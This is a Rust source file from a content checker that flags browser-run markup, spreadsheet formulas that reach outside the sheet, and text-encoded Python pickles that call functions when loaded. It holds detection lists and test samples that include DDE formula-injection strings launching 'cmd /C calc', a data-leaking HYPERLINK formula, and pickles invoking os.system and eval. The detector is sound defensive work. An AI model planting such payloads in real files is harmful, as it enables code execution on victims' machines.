//! What a text does in the hands of whoever opens it: formulas that a spreadsheet reckons, markup that a browser runs or fetches, and
//! pickles that are written in letters.

use crate::anatomy::Anatomy;
use crate::finding::Finding;
use crate::table::Table;

const REMEDY: &str = "leave it out: write values alone";
/// What begins, in markup, something that runs or is fetched.
const MARKUP: [&str; 14] = [
    "<script",
    "<iframe",
    "<embed",
    "<svg",
    "<img",
    "<style",
    "<form ",
    "<object data",
    "<object type",
    "<meta http-equiv",
    "javascript:",
    "vbscript:",
    "data:text/html",
    "](data:",
];
/// Functions of spreadsheets that reach out of them.
const REACHING: [&str; 9] =
    ["hyperlink(", "webservice(", "importxml(", "importdata(", "importrange(", "call(", "register", "exec(", "rtd("];

/// Notes that a text holds markup that runs.
pub(crate) fn markup(text: &str, anatomy: &mut Anatomy) {
    let small = text.to_ascii_lowercase();
    if MARKUP.iter().any(|word| small.contains(word)) {
        anatomy.block_once("F6", "the text holds markup that a browser runs or fetches", REMEDY);
    }
}

/// Notes that a table holds formulas.
pub(crate) fn formulas(table: &Table, anatomy: &mut Anatomy) {
    let found = table.rows.iter().find(|row| row.cells.iter().any(|cell| is_formula(cell)));
    if let Some(row) = found {
        let finding = Finding::block("a cell holds a formula that a spreadsheet would run", REMEDY);
        anatomy.remark("F6", finding.at_lines([row.line]));
    }
}

/// Whether a spreadsheet takes a cell for a formula that does more than to reckon with numbers.
fn is_formula(cell: &str) -> bool {
    let cell = cell.trim_start().trim_start_matches('\'').to_ascii_lowercase();
    let reaches = || REACHING.iter().any(|function| cell.contains(function)) || is_exchange(&cell);
    match cell.as_bytes() {
        [b'=', next, ..] => next.is_ascii_alphanumeric() || b"(+-@\"'$\\_".contains(next),
        [b'+' | b'-' | b'@', ..] => reaches() || cell.starts_with('@') && cell.contains('('),
        _ => false,
    }
}

/// Whether a cell asks another program for something: `program|topic!item`.
fn is_exchange(cell: &str) -> bool {
    let parts = cell.split_once('|');
    parts.is_some_and(|(program, topic)| program.ends_with(|c: char| c.is_alphabetic()) && topic.contains('!'))
}

/// Notes that a text is a pickle that would call something.
pub(crate) fn pickle(text: &str, anatomy: &mut Anatomy) {
    if calls(text.as_bytes()).unwrap_or(false) {
        anatomy.block_once("F6", "the text is a pickle that calls something when it is loaded", REMEDY);
    }
}

/// Whether letters are opcodes up to the one that ends a pickle, and call something on the way (Python's `pickletools`, protocol 0 and
/// those of later ones that have no zeros).
fn calls(mut rest: &[u8]) -> Option<bool> {
    let (mut named, mut called) = (false, false);
    loop {
        let (opcode, after) = rest.split_first()?;
        rest = match opcode {
            b'.' => return Some(named && called),
            b'(' | b'0' | b'1' | b'2' | b'N' | b'a' | b'd' | b'e' | b'l' | b's' | b't' | b'u' | b']' | b'}' | b')' => {
                after
            }
            b'R' | b'o' | b'b' => {
                called = true;
                after
            }
            b'I' | b'L' | b'F' | b'p' | b'g' => line(after).filter(|(own, _)| is_number(own))?.1,
            b'S' => line(after).filter(|(own, _)| own.starts_with(b"'") || own.starts_with(b"\""))?.1,
            b'V' | b'P' => line(after)?.1,
            b'c' | b'i' => {
                let (module, after) = line(after)?;
                let (name, after) = line(after)?;
                named = true;
                called |= *opcode == b'i';
                (is_name(module) && is_name(name)).then_some(after)?
            }
            b'K' | b'q' | b'h' => after.get(1..)?,
            b'M' => after.get(2..)?,
            b'J' | b'r' | b'j' => after.get(4..)?,
            b'G' => after.get(8..)?,
            _ => return None,
        };
    }
}

fn line(bytes: &[u8]) -> Option<(&[u8], &[u8])> {
    let end = memchr::memchr(b'\n', bytes)?;
    Some((bytes.get(..end)?, bytes.get(end + 1..)?))
}

fn is_name(word: &[u8]) -> bool {
    !word.is_empty() && word.iter().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.'))
}

fn is_number(word: &[u8]) -> bool {
    !word.is_empty() && word.iter().all(|byte| byte.is_ascii_digit() || b"+-.eEL".contains(byte))
}

#[cfg(test)]
mod tests {
    use super::{calls, is_formula};

    #[test]
    fn a_formula_is_what_a_spreadsheet_runs_and_no_number_or_label() {
        for cell in
            ["=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|' /C x'!A0"]
        {
            assert!(is_formula(cell), "{cell}");
        }
        for cell in ["=HYPERLINK(\"http://a/?\"&A1)", "  =A1", "+hyperlink(A1)", "=-A1", "=$A$1"] {
            assert!(is_formula(cell), "{cell}");
        }
        for cell in [
            "-0.5",
            "+1e5",
            "-",
            "+",
            "=",
            "-0.12 [-0.3, 0.1]",
            "-log10(p)",
            "+/- 3",
            "= 5",
            "==",
            "@home",
            "-a|b",
            "a=b",
        ] {
            assert!(!is_formula(cell), "{cell}");
        }
    }

    #[test]
    fn a_pickle_in_letters_is_told_from_prose() {
        for text in ["cos\nsystem\n(S'id'\ntR.", "(S'id'\nios\nsystem\n.", "(lp0\ncbuiltins\neval\np1\n(V1\ntRa."] {
            assert_eq!(calls(text.as_bytes()), Some(true), "{text}");
        }
        for text in ["cats\nand\ndogs.", "I 5\n", "(see table 1).", "name\nvalue\n", "I5\n.", ""] {
            assert_ne!(calls(text.as_bytes()), Some(true), "{text}");
        }
    }
}
